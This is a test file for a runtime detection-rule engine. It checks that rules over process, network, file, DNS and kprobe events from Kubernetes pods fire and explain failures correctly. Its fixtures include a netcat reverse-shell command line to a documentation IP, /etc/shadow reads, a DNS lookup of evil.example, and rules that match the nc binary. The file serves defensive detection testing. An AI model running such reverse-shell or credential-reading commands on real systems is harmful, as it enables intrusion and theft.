import { describe, expect, it } from 'vitest';
import type { RuleTestResult } from '../../src/rule-tests/run.ts';
import { runRuleTests } from '../../src/rule-tests/run.ts';
import { loadRules } from '../../src/rules/load.ts';
import { decodeLine } from '../../src/sources/json/decoder.ts';

const HEADER = `
title: A rule
id: 6d1a3c0e-7f0b-4a5e-9a3c-0d3d9a5b1c2d
level: high
taxonomy: spoor
`;

const SEQUENCE = `${HEADER}
sequence:
  by: process
  within: 1m
  steps:
  - id: exec
    logsource: {category: process_creation}
    detection:
      selection: {process.name: nc}
      condition: selection
  - id: egress
    logsource: {category: network_connection}
    detection:
      selection: {process.name: nc}
      condition: selection
`;

const single = (selection: string, category = 'process_creation'): string => `${HEADER}
logsource: {category: ${category}}
detection:
  selection: ${selection}
  condition: selection
`;

function run(rule: string, tests: string): RuleTestResult[] {
  const { rules, diagnostics, tests: byRule } = loadRules([{ file: 'rule.yaml', text: `${rule}\ntests:\n${tests}` }]);
  expect(diagnostics.filter(diagnostic => diagnostic.severity === 'error')).toEqual([]);
  return runRuleTests(
    rules.map(loaded => ({ rule: loaded, tests: byRule.get(loaded.id) ?? [] })),
    {
      decode: decodeLine,
      readCapture: path => {
        throw new Error(`${path}: no such file`);
      },
    },
  );
}

/** The only test's problems. */
const problems = (rule: string, events: string, expectation: string): readonly string[] => {
  const [result, ...more] = run(rule, `- name: t\n  events:\n${events}\n  expect: ${expectation}`);
  expect(more).toEqual([]);
  expect(result?.passed).toBe(result?.problems.length === 0);
  return result?.problems ?? ['no result'];
};

describe('compact events', () => {
  it('an exec and a flow of the same process, attributed by its socket', () => {
    const events = `
  - exec: {p: A, binary: /usr/bin/nc, arguments: '-e /bin/sh 203.0.113.9 443', pod: shop/cart}
  - flow: {at: 2s, p: A, pod: shop/cart, to: '203.0.113.9:443'}`;
    expect(problems(SEQUENCE, events, '{alerts: 1, attribution: socket, confidence: high}')).toEqual([]);
    const details =
      '{alerts: [{pod: shop/*, level: high, process.pid: 4711, step.exec.process.pid: 4711, step.egress.flow.destination.port: 443}]}';
    expect(problems(SEQUENCE, events, details)).toEqual([]);
  });

  it('what is left out is not judged: the socket event of a flow, the exec of a parent', () => {
    const flows = single('{socket.destination.port: 443}', 'network_connection');
    expect(problems(flows, `  - flow: {p: A, pod: shop/cart, to: '203.0.113.9:443'}`, '{alerts: 0}')).toEqual([]);
    const execs = single('{process.name: nginx}');
    const child = `  - exec: {binary: /bin/sh, parent: /usr/sbin/nginx, pod: shop/web}`;
    expect(problems(execs, child, '{alerts: 0}')).toEqual([]);
    expect(problems(single('{parent.name: nginx}'), child, '{alerts: 1}')).toEqual([]);
  });

  it('parents by label, path or map, and their ancestors', () => {
    const rule = single('{ancestors|any: {process.name: [nginx]}}');
    for (const events of [
      `  - exec: {p: A, binary: /usr/sbin/nginx, pod: shop/web}
  - exec: {p: B, parent: A, binary: /bin/sh}
  - exec: {p: C, parent: B, binary: /usr/bin/id}`,
      `  - exec: {binary: /usr/bin/id, parent: {binary: /bin/sh, parent: /usr/sbin/nginx}, pod: shop/web}`,
    ]) {
      const results = problems(rule, events, '{alerts: [{process.binary: /usr/bin/id}]}');
      expect(results.filter(line => line.includes('/usr/bin/id'))).toEqual([]);
    }
  });

  it('an image replaced by exec over the same pid', () => {
    const rule = `${HEADER}
sequence:
  by: process_tree
  within: 1m
  steps:
  - {id: a, logsource: {category: process_creation}, detection: {s: {process.name: sh}, condition: s}}
  - {id: b, logsource: {category: process_creation}, detection: {s: {process.name: curl}, condition: s}}
`;
    const events = `
  - exec: {p: A, binary: /bin/sh, pod: shop/web}
  - exec: {p: B, replaces: A, binary: /usr/bin/curl}`;
    expect(problems(rule, events, '{alerts: [{step.a.process.pid: 4711, step.b.process.pid: 4711}]}')).toEqual([]);
  });

  it('flows of which only the pod is known', () => {
    const rule = single('{flow.destination.port: 443}', 'flow');
    const event = `  - flow: {pod: shop/cart, to: '203.0.113.9:443'}`;
    expect(problems(rule, event, '{alerts: [{pod: shop/cart}], attribution: pod, confidence: low}')).toEqual([]);
  });

  it('names, pods and incoming flows as ends', () => {
    const rule = single('{flow.destination.names: bucket.s3.amazonaws.com}', 'flow');
    const upload = `  - flow: {p: A, pod: shop/cart, to: 'bucket.s3.amazonaws.com:443'}`;
    expect(problems(rule, upload, '{alerts: 1, attribution: socket}')).toEqual([]);
    const toPod = single('{flow.destination.pod: db, flow.destination.namespace: shop}', 'flow');
    expect(problems(toPod, `  - flow: {p: A, pod: shop/cart, to: 'shop/db:5432'}`, '{alerts: 1}')).toEqual([]);
    const incoming = single('{flow.direction: INGRESS, process.name: sh}', 'flow');
    expect(
      problems(incoming, `  - flow: {p: A, pod: shop/web, from: '198.51.100.7:5555', port: 8080}`, '{alerts: 1}'),
    ).toEqual([]);
  });

  it('files, kprobes, connects, DNS, HTTP and exits', () => {
    const file = single('{file.path: /etc/shadow, file.access: read}', 'file_event');
    expect(problems(file, `  - file: {p: A, path: /etc/shadow, pod: shop/web}`, '{alerts: 1}')).toEqual([]);
    expect(problems(file, `  - file: {p: A, path: /etc/shadow, access: write}`, '{alerts: 0}')).toEqual([]);
    const setns = single('{setns.kind: pid}', 'kprobe');
    const call = `  - kprobe: {p: A, function: __x64_sys_setns, args: [{int: 5}, {int: 536870912}], pod: shop/web}`;
    expect(problems(setns, call, '{alerts: 1}')).toEqual([]);
    const connect = single('{socket.destination.ip: 203.0.113.9}', 'network_connection');
    expect(
      problems(
        connect,
        `  - connect: {p: A, to: '203.0.113.9:443', pod: shop/web}`,
        '{alerts: 1, attribution: socket}',
      ),
    ).toEqual([]);
    const dns = single('{dns.query: evil.example}', 'dns');
    expect(
      problems(dns, `  - dns: {p: A, query: evil.example, answers: [203.0.113.7], pod: shop/web}`, '{alerts: 1}'),
    ).toEqual([]);
    const http = single('{http.method: POST, http.path: /run}', 'http');
    expect(
      problems(
        http,
        `  - flow: {pod: shop/web, from: '198.51.100.7', port: 80, http: {method: POST, url: 'http://web/run'}}`,
        '{alerts: 1}',
      ),
    ).toEqual([]);
    const exit = single('{exit.signal: SIGKILL}', 'process_termination');
    expect(problems(exit, `  - exit: {p: A, signal: SIGKILL, pod: shop/web}`, '{alerts: 1}')).toEqual([]);
  });

  it('raw records as the sensors export them', () => {
    const raw = `  - raw: {process_exec: {process: {exec_id: eDox, pid: 7, binary: /usr/bin/nc, start_time: '2026-01-01T00:00:00Z'}}, node_name: n, time: '2026-01-01T00:00:00Z'}`;
    expect(problems(single('{process.name: nc}'), raw, '{alerts: [{process.pid: 7}]}')).toEqual([]);
  });

  it('the age of a container', () => {
    const rule = single('{container.name: cart, process.name: sh}');
    expect(
      problems(
        rule,
        `  - exec: {binary: /bin/sh, pod: shop/cart-6d4cf56db6-x7k2p, container_age: 2h}`,
        '{alerts: [{pod.workload: cart}]}',
      ),
    ).toEqual([]);
  });

  it('is deterministic', () => {
    const tests = `
- name: t
  events:
  - exec: {p: A, binary: /usr/bin/nc, pod: shop/cart}
  - flow: {p: A, to: 'x.example:443'}
  expect: {alerts: [{key: none}]}`;
    expect(run(SEQUENCE, tests)).toEqual(run(SEQUENCE, tests));
  });
});

describe('what went wrong', () => {
  it('says which step did not match', () => {
    const events = `
  - exec: {p: A, binary: /usr/bin/nc, pod: shop/cart}
  - flow: {p: B, pod: shop/cart, to: '203.0.113.9:443'}`;
    const text = problems(SEQUENCE, events, '{alerts: 1}').join('\n');
    expect(text).toContain('expected 1 alert, got 0');
    expect(text).toContain('step exec matched event 1 (exec)');
    expect(text).toContain(
      'step egress matched no event; nearest of 1:\n  event 2 (flow): failed [false] process.name: nc — is "sh"',
    );
  });

  it('says why matching steps did not join', () => {
    const events = `
  - exec: {p: A, binary: /usr/bin/nc, pod: shop/cart}
  - flow: {p: B, binary: /usr/bin/nc, pod: shop/cart, to: '203.0.113.9:443'}`;
    const text = problems(SEQUENCE, events, '{alerts: 1}').join('\n');
    expect(text).toContain('did not join by process within 60 s');
    expect(text).toMatch(/event 1 \(exec\): process 4711 .*\n.*event 2 \(flow\): process 4712/);
  });

  it('says what a threshold takes beyond matches', () => {
    const rule = `${single('{process.name: nc}')}\ncount: {gte: 3, by: [pod.name], within: 1m}`;
    const text = problems(rule, `  - exec: {binary: /usr/bin/nc, pod: shop/a}`, '{alerts: 1}').join('\n');
    expect(text).toContain('the rule matched event 1 (exec)');
    expect(text).toContain('it takes 3 matches for one pod.name within 60 s');
  });

  it('says how an alert differs from what was expected', () => {
    const text = problems(
      single('{process.name: nc}'),
      `  - exec: {binary: /usr/bin/nc, pid: 5}`,
      '{alerts: [{process.pid: 6, process.nam: nc}]}',
    );
    expect(text.join('\n')).toContain("process.pid is 5, not 6; there is no field 'process.nam'");
  });

  it('says what fired when nothing should', () => {
    const text = problems(single('{process.name: nc}'), `  - exec: {binary: /usr/bin/nc}`, '{alerts: 0}');
    expect(text).toEqual(['expected 0 alerts, got 1', 'alert: match by event 1 (exec)']);
  });

  it('each expectation takes an alert of its own', () => {
    const events = `
  - exec: {binary: /usr/bin/nc, pod: shop/a}
  - exec: {binary: /usr/bin/nc, pod: shop/b}`;
    expect(problems(single('{process.name: nc}'), events, '{alerts: [{pod: shop/*}, {pod: shop/a}]}')).toEqual([]);
    const text = problems(single('{process.name: nc}'), events, '{alerts: [{pod: shop/a}, {pod: shop/a}]}');
    expect(text.join('\n')).toContain('no alert is {"pod":"shop/a"}');
  });

  it.each([
    ['exec: {p: A}', 'binary is missing'],
    ['flow: {p: A, to: x, http: {verb: GET}}', "unknown key 'verb'"],
    ['flow: {p: A, to: x, http: {methd: GET}}', "did you mean 'method'?"],
    ['exec: {p: A, binary: /bin/sh, pod: shop}', 'pod must be namespace/name'],
    ['exec: {p: A, binary: /bin/sh, parent: B}', "no process 'B' for a parent"],
    ['exec: {p: A, binary: /bin/sh, at: soon}', "'at' must be a duration"],
    ['exec: {p: A, binary: /bin/sh, uid: root}', "'uid' must be a number"],
    ['flow: {p: A}', 'to is missing'],
    ['flow: {p: A, to: "203.0.113.9:https"}', 'no port'],
    ['flow: {p: A, to: x, attribution: sure}', 'attribution must be'],
    ['file: {p: A, path: /x, access: look}', 'access must be among'],
    ['kprobe: {p: A, function: f, args: [5]}', 'an argument is a map'],
    ['raw: {nothing: {}}', 'cannot run: no event'],
  ])('%s: %s', (event, problem) => {
    expect(problems(single('{process.name: nc}'), `  - ${event}`, '{alerts: 0}').join()).toContain(problem);
  });

  it('a capture that cannot be read fails its test alone', () => {
    const results = run(
      single('{process.name: nc}'),
      `
- {name: lost, capture: ../nowhere.jsonl, expect: {alerts: 0}}
- {name: fine, events: [exec: {binary: /bin/sh}], expect: {alerts: 0}}`,
    );
    expect(results.map(result => result.passed)).toEqual([false, true]);
    expect(results[0]?.problems).toEqual(['cannot run: ../nowhere.jsonl: no such file']);
  });
});

describe('repeated findings', () => {
  it('of the same key within the suppression time are one alert', () => {
    const rule = single('{file.path: /etc/shadow}', 'file_event');
    const events = `
  - file: {p: A, path: /etc/shadow}
  - file: {p: A, path: /etc/shadow}
  - file: {at: 10m, p: A, path: /etc/shadow}`;
    expect(problems(rule, events, '{alerts: 2}')).toEqual([]);
  });
});
